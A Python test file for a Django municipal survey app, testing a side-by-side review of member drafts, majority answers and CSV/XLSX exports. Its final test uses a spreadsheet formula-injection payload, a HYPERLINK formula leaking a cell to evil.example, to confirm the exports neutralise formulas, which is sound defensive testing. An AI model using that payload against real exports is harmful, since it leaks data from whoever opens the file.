"""The consistency review: drafts side by side, differences and interpretations marked, exports."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import polars as pl
from bs4 import BeautifulSoup
from django.test import Client

from jamfor.web.accounts.models import Role
from jamfor.web.survey.interpretations import load_catalog_protocol
from jamfor.web.survey.models import Year
from jamfor.web.survey.review import build_review, majority

from .conftest import make_user

PAGE = "/enkat/2015/{}/sida/intern-samordning/"
ANSWERS = {  # fråga 1, Barn- och ungdomsvård: three Ja, one Nej
    "0125": "ja",  # Ekerö
    "0123": "ja",  # Järfälla
    "0191": "nej",  # Sigtuna
    "0163": "ja",  # Sollentuna
}


def test_majority_needs_more_than_half() -> None:
    assert majority(["ja", "ja", "nej"]) == "ja"
    assert majority(["ja", "nej"]) is None
    assert majority(["ja", "ja", "nej", "nej", "integrerat"]) is None
    assert majority([]) is None


def _answer_as_members(login: Callable[[Any], Client]) -> None:
    for code, answer in ANSWERS.items():
        user = make_user(f"rep-{code}", Role.REPRESENTATIVE, code)
        r = login(user).post(
            PAGE.format(code),
            {"svar-1-bou": answer, "kommentar-1": f"Kommentar från {code}"},
        )
        assert r.status_code == 302


def test_drafts_side_by_side_with_differences_and_interpretations_marked(
    year: Year, analyst: Any, login: Callable[[Any], Client]
) -> None:
    _answer_as_members(login)
    load_catalog_protocol(year, analyst)
    page = BeautifulSoup(login(analyst).get("/granskning/2015/").content, "html.parser")
    head = [th.get_text() for th in page.select("table.review thead tr:first-child th")]
    assert head[1:4] == ["Ekerö", "Järfälla", "Sigtuna"] and head[-1] == "Majoritet"
    status = [td.get_text() for td in page.select("table.review thead tr:nth-of-type(2) td")]
    assert status[:5] == ["Utkast", "Utkast", "Utkast", "Utkast", "Ej påbörjad"]
    row = page.select_one("#rad-1bou")
    cells = row.select("td")
    assert [c.get_text(" ", strip=True) for c in cells[:5]] == [
        "Ja",
        "Ja",
        "≠ Nej (avviker från majoriteten)",
        "Ja",
        "–",
    ]
    assert [("differs" in c.get("class", [])) for c in cells[:4]] == [False, False, True, False]
    assert cells[-1].get_text() == "Ja"
    header = row.th
    assert "noted" in header["class"]
    assert "Överenskommen tolkning" in header.details.summary.get_text()
    assert "Om någon förvaltningsledning" in header.details.get_text()
    assert "noted" not in page.select_one("#rad-2af").th.get("class", [])
    comments = page.select("table")[1]
    assert "Kommentar från 0191" in comments.get_text()


def test_the_review_exports_as_csv_and_xlsx(
    year: Year, analyst: Any, login: Callable[[Any], Client]
) -> None:
    _answer_as_members(login)
    load_catalog_protocol(year, analyst)
    c = login(analyst)
    r = c.get("/granskning/2015/export.csv")
    assert r["Content-Disposition"] == 'attachment; filename="granskning-2015.csv"'
    assert r.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
    header = rows[0]
    assert header[:4] == ["Fråga", "Del", "Frågetext", "Överenskommen tolkning"]
    assert header[4:7] == ["Ekerö", "Järfälla", "Sigtuna"]
    row = next(r for r in rows if r[0] == "1" and r[1].endswith("Barn- och ungdomsvård"))
    assert row[3] == "Fråga 1"
    assert row[4:8] == ["Ja", "Ja", "Nej", "Ja"]
    assert row[-2:] == ["Ja", "Sigtuna"]
    comment = next(r for r in rows if r[0] == "1" and r[1] == "Kommentar")
    assert comment[4] == "Kommentar från 0125"

    x = c.get("/granskning/2015/export.xlsx")
    assert x.content.startswith(b"PK")
    sheet = pl.read_excel(io.BytesIO(x.content), sheet_name="Granskning", infer_schema_length=0)
    assert sheet.columns[:5] == ["Fråga", "Del", "Frågetext", "Överenskommen tolkning", "Ekerö"]
    as_rows = sheet.rows()
    xrow = next(r for r in as_rows if r[0] == "1" and str(r[1]).endswith("Barn- och ungdomsvård"))
    assert list(xrow[4:8]) == ["Ja", "Ja", "Nej", "Ja"]
    assert xrow[-1] == "Sigtuna"
    review = build_review(year)
    assert len(as_rows) == 1 + len(review.rows) + len(review.comments)


def test_a_comment_cannot_become_a_formula_in_the_exports(
    year: Year, analyst: Any, login: Callable[[Any], Client]
) -> None:
    formula = '=HYPERLINK("http://evil.example/?d="&E3;"Klicka")'
    rep = make_user("rep-0125", Role.REPRESENTATIVE, "0125")
    r = login(rep).post(PAGE.format("0125"), {"svar-1-bou": "Ja", "kommentar-1": formula})
    assert r.status_code == 302
    c = login(analyst)
    text = c.get("/granskning/2015/export.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + formula in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
    x = c.get("/granskning/2015/export.xlsx")
    sheet = pl.read_excel(io.BytesIO(x.content), sheet_name="Granskning", infer_schema_length=0)
    assert formula in [v for row in sheet.rows() for v in row]  # a text cell, not a formula
